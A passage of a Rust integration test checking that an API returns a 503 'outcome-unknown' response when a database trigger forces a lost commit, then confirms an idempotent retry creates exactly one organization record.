                    &json!({"slug": "lost-commit-co", "kind": "enterprise", "name_zh": "提交丢失公司"}),
                )
                .unwrap(),
            ),
        )
    };
    let res = create().await;
    let problem = res.problem(503);
    assert_eq!(problem["type"], "/problems/outcome-unknown", "{problem}");
    assert!(res.header("retry-after").is_some());
    app.conn()
        .batch_execute("DROP TRIGGER lose_the_commit ON organizations")
        .unwrap();
    let again = create().await;
    assert_eq!(again.status, 201, "{}", again.text());
    let again = create().await;
    assert_eq!(again.header("idempotent-replayed"), Some("true"));
    let count: i64 = organizations::table
        .filter(organizations::slug.eq("lost-commit-co"))
        .count()
        .get_result(&mut *app.conn())
        .unwrap();
    assert_eq!(count, 1);
}
